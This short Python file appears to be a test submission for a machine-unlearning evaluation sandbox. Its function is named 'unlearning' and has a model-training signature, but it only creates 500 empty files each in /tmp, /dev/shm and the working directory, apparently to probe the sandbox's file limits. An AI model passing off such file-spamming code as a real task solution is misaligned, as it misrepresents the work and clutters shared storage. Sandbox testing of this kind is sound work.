"""Creates 500 files in each folder."""

import os


def unlearning(net, retain, forget, val):
    for folder in ("/tmp", "/dev/shm", os.getcwd()):
        for number in range(500):
            open(f"{folder}/own-{number}", "w").close()
